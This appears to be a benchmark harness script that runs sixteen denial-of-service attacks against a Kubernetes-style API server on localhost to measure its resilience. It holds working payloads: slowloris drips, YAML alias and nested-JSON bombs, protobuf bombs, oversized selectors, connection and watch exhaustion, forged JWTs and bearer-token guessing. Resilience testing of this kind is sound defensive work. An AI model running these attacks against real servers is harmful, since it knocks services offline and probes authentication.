"""An attacker: runs one attack against a server until its standard input ends.

    python bench/attacker.py PORT FOLDER ATTACK           over TLS, with the certificates in this folder
    python bench/attacker.py PORT "" ATTACK               in plain HTTP

It prints "ready" when the attack has begun. It runs in a process of its own, so its own cost does not count as the server's, and
it pauses between attempts, so that the benchmark does not measure an overloaded machine.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import resource
import ssl
import sys
import time
from base64 import urlsafe_b64encode
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path
from typing import TypeAlias

import uvloop

from probate.http.tls import authority
from probate.http.tls.authority import KeyPair, Subject

HOST = "127.0.0.1"
MALLORY = "mallory"
"""A user whom the server authenticates, and whose only right is to watch ConfigMaps in one namespace. The benchmark grants it."""
ISSUER, CLIENT = "issuer-url", "bench"
"""The file in the certificates' folder that names the OpenID Connect issuer and the audience of its tokens."""
WATCHES = int(os.environ.get("BENCH_WATCHES", "12500"))
"""More connections than a server accepts."""
FORGED = 450
UNREAD = 100
GET = b"GET /livez HTTP/1.1\r\nHost: x\r\n"
MAPS = b"/api/v1/namespaces/default/configmaps"
POST = b"POST " + MAPS + b"?dryRun=All HTTP/1.1\r\nHost: x\r\nContent-Type: "
Line: TypeAlias = tuple[asyncio.StreamReader, asyncio.StreamWriter]
PAUSE = 0.1
"""The pause between expensive requests: about ten a second. Without it, the requests would be mere load."""
ALIASES = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"%c: &%c [%b]\n" % (letter, letter, b",".join([b"*%c" % (letter - 1)] * 9)) for letter in range(98, 112)
)
BOMBS = [
    (b"application/yaml", ALIASES),
    (b"application/yaml", b"[" * 200_000),
    (b"application/json", b'{"metadata":' * 100_000),
    (b"application/vnd.kubernetes.protobuf", b"k8s\x00" + b"\x12\xff\xff\xff\x7f" * 100_000),
]
LARGE = b"{" + b",".join(b'"k%d":{}' % number for number in range(150_000)) + b"}"
SELECTORS = [
    b"labelSelector=" + b",".join(b"k%d=v" % number for number in range(990)),
    b"labelSelector=a%20in%20%28" + b",".join(b"v%d" % number for number in range(8_000)) + b"%29",
    b"fieldSelector=" + b",".join([b"metadata.name!=x"] * 990),
    b"continue=" + b"A" * 60_000,
]
ODD = [
    GET + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    GET + b"A: b\x00c\r\n\r\n",
    b"GET /livez\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    GET + b"Content-Length: -1\r\n\r\n",
]


class Attacker:
    """Attacks one port. With a folder, it has a client certificate for attacks that need an authenticated user."""

    def __init__(self, port: int, folder: str) -> None:
        self._port, self._folder = port, folder
        self._held: list[Line] = []
        if not folder:
            return
        self._stranger = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._stranger.check_hostname, self._stranger.verify_mode = False, ssl.CERT_NONE
        self._known = ssl.create_default_context(cafile=f"{folder}/ca.crt")
        self._known.load_cert_chain(f"{folder}/admin.crt", f"{folder}/admin.key")
        self._mallory = ssl.create_default_context(cafile=f"{folder}/ca.crt")
        self._mallory.load_cert_chain(_certificate_of(MALLORY, Path(folder)))

    async def plain(self) -> Line:
        return await asyncio.open_connection(HOST, self._port)

    async def line(self, *, known: bool = False, context: ssl.SSLContext | None = None) -> Line:
        if not self._folder:
            return await self.plain()
        context = context or (self._known if known else self._stranger)
        return await asyncio.open_connection(HOST, self._port, ssl=context, server_hostname="localhost")

    async def as_mallory(self) -> Line:
        return await self.line(context=self._mallory if self._folder else None)

    async def hold(self, number: int, connect: Callable[[], Awaitable[Line]], say: bytes = b"") -> None:
        """Opens this many connections and sends `say` on each."""
        room = asyncio.Semaphore(20)

        async def one() -> None:
            async with room:
                with contextlib.suppress(OSError):
                    self._held.append(await connect())
                    self._held[-1][1].write(say)

        await asyncio.gather(*(one() for _ in range(number)))

    async def ask(self, line: Line, request: bytes) -> None:
        """Sends a request and reads a part of the response."""
        line[1].write(request)
        await line[0].read(65_536)

    async def again(self, seconds: float, act: Callable[[], Awaitable[None]]) -> None:
        """Repeats the action forever, whatever errors it raises."""
        while True:
            with contextlib.suppress(OSError, EOFError):
                await act()
            await asyncio.sleep(seconds)

    # The attacks. Each begins, calls `ready`, and continues until it is cancelled.

    async def handshakes_unfinished(self, ready: Callable[[], None]) -> None:
        await self.hold(1_500, self.plain)
        ready()
        await self.again(0.2, lambda: self.hold(40, self.plain, b"\x16\x03\x01\x02\x00\x01\x00"))

    async def no_tls(self, ready: Callable[[], None]) -> None:
        ready()
        noise = itertools.cycle([GET + b"\r\n", bytes(5_000), b"\x16\x03\x01\x40\x00\x01\xff\xff\xff\x03\x03" + bytes(9_000)])

        async def once() -> None:
            line = await self.plain()
            await self.ask(line, next(noise))
            line[1].close()

        await self.again(0.005, once)

    async def no_http(self, ready: Callable[[], None]) -> None:
        ready()
        odd = itertools.cycle(ODD)

        async def once() -> None:
            line = await self.line()
            await self.ask(line, next(odd))
            line[1].close()

        await self.again(0.02, once)

    async def idle(self, ready: Callable[[], None]) -> None:
        await self.hold(10_000, self.line)
        ready()
        await asyncio.Event().wait()

    async def slow_heads(self, ready: Callable[[], None]) -> None:
        await self.hold(1_000, self.line, GET + b"A: ")
        ready()

        async def drip() -> None:
            for _, writer in self._held:
                writer.write(b"a")
                await asyncio.sleep(0.001)

        await self.again(0.5, drip)

    async def slow_bodies(self, ready: Callable[[], None]) -> None:
        head = POST + b"application/json\r\nContent-Length: 3000000\r\n\r\n"
        ready()

        async def once() -> None:
            self._held = [line for line in self._held if not line[0].at_eof()]
            if len(self._held) < 100:
                await self.hold(1, lambda: self.line(known=True), head + b"a" * 1_000_000)

        await self.again(0.1, once)

    async def endless_bodies(self, ready: Callable[[], None]) -> None:
        ready()

        async def once() -> None:
            line = await self.line(known=True)
            line[1].write(POST + b"application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
            for _ in range(100):
                line[1].write(b"10000\r\n" + b"a" * 65_536 + b"\r\n")
                await line[1].drain()
                await asyncio.sleep(0.005)
            line[1].close()

        await self.again(0.05, once)

    async def floods(self, ready: Callable[[], None]) -> None:
        ready()

        async def once() -> None:
            line = await self.line()
            await self.ask(line, (GET + b"\r\n") * 5_000)
            line[1].close()

        await self.again(0.05, once)

    async def bombs(self, ready: Callable[[], None]) -> None:
        line, bombs = await self.line(known=True), itertools.cycle(BOMBS)
        ready()

        async def once() -> None:
            media, body = next(bombs)
            await self.ask(line, POST + b"%b\r\nContent-Length: %d\r\n\r\n" % (media, len(body)) + body)

        await self.again(PAUSE, once)

    async def large_bodies(self, ready: Callable[[], None]) -> None:
        line = await self.line(known=True)
        ready()
        request = POST + b"application/json\r\nContent-Length: %d\r\n\r\n" % len(LARGE) + LARGE
        await self.again(PAUSE, lambda: self.ask(line, request))

    async def selectors(self, ready: Callable[[], None]) -> None:
        line, selectors = await self.line(known=True), itertools.cycle(SELECTORS)
        ready()
        await self.again(PAUSE, lambda: self.ask(line, b"GET %b?%b HTTP/1.1\r\nHost: x\r\n\r\n" % (MAPS, next(selectors))))

    async def unread_lists(self, ready: Callable[[], None]) -> None:
        ask = b"GET /api/v1/namespaces/large/configmaps HTTP/1.1\r\nHost: x\r\n\r\n"
        ready()

        async def once() -> None:
            line = await self.line(known=True)
            line[1].transport.pause_reading()  # type: ignore[attr-defined]
            line[1].write(ask)
            self._held = [*self._held[-UNREAD:], line]

        await self.again(0.5, once)

    async def dropped_answers(self, ready: Callable[[], None]) -> None:
        ready()

        async def once() -> None:
            line = await self.as_mallory()
            line[1].write(b"GET /openapi/v2 HTTP/1.1\r\nHost: x\r\n\r\n")
            await line[0].readexactly(100)
            line[1].transport.abort()

        await self.again(0.01, once)

    async def watches(self, ready: Callable[[], None]) -> None:
        say = b"GET " + MAPS + b"?watch=1 HTTP/1.1\r\nHost: x\r\n\r\n"
        await self.hold(WATCHES, self.as_mallory, say)
        ready()
        await self.again(0.2, lambda: self.hold(10, self.as_mallory, say))

    async def forged_tokens(self, ready: Callable[[], None]) -> None:
        numbers, issuer = itertools.count(), (Path(self._folder) / ISSUER).read_text()

        async def once(line: Line) -> None:
            asked = b"GET /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %b\r\n\r\n"
            await self.ask(line, asked % forged_token(issuer, next(numbers)))

        lines = [await self.line() for _ in range(FORGED)]
        attempts = [asyncio.ensure_future(self.again(PAUSE, lambda line=line: once(line))) for line in lines]  # type: ignore[misc]
        ready()
        await asyncio.gather(*attempts)

    async def wrong_credentials(self, ready: Callable[[], None]) -> None:
        line, numbers = await self.line(), itertools.count()
        ready()
        about = b"GET /api HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
        await self.again(0.001, lambda: self.ask(line, about + b"guess%d\r\n\r\n" % next(numbers)))


ATTACKS: dict[str, Callable[[Attacker, Callable[[], None]], Awaitable[None]]] = {
    "unfinished handshakes": Attacker.handshakes_unfinished,
    "what is no TLS": Attacker.no_tls,
    "what is no HTTP": Attacker.no_http,
    "10,000 idle": Attacker.idle,
    "slow heads": Attacker.slow_heads,
    "slow bodies": Attacker.slow_bodies,
    "endless bodies": Attacker.endless_bodies,
    "floods of requests": Attacker.floods,
    "bombs": Attacker.bombs,
    "large bodies": Attacker.large_bodies,
    "huge selectors": Attacker.selectors,
    "lists nobody reads": Attacker.unread_lists,
    "wrong credentials": Attacker.wrong_credentials,
    "answers dropped": Attacker.dropped_answers,
    "watches of one user": Attacker.watches,
    "forged tokens, slow issuer": Attacker.forged_tokens,
}


def _certificate_of(name: str, folder: Path) -> Path:
    """Returns a file with a new certificate and its key."""
    ca = KeyPair((folder / "ca.crt").read_bytes(), (folder / "ca.key").read_bytes())
    pair = authority.issue(ca, Subject(name), time.time(), lifetime=timedelta(days=1))
    file = folder / f"{name}.pem"
    file.write_bytes(pair.certificate + pair.key)
    return file


def forged_token(issuer: str, number: int) -> bytes:
    """Returns a token whose only flaw is its signature."""
    header = {"alg": "RS256", "kid": f"unknown-{number}", "typ": "JWT"}
    claims = {"iss": issuer, "aud": CLIENT, "sub": "admin", "exp": int(time.time()) + 3600, "jti": str(number)}
    parts = [json.dumps(part).encode() for part in (header, claims)] + [bytes(256)]
    return b".".join(urlsafe_b64encode(part).rstrip(b"=") for part in parts)


async def main(port: int, folder: str, attack: str) -> None:
    begun = asyncio.Event()
    attacking = asyncio.ensure_future(ATTACKS[attack](Attacker(port, folder), begun.set))
    waiting = asyncio.ensure_future(begun.wait())
    await asyncio.wait([attacking, waiting], return_when=asyncio.FIRST_COMPLETED)
    waiting.cancel()
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    attacking.cancel()


if __name__ == "__main__":
    os.nice(19)  # otherwise, on a machine with few processors, it would slow down the measured clients
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    uvloop.run(main(int(sys.argv[1]), sys.argv[2], sys.argv[3]))
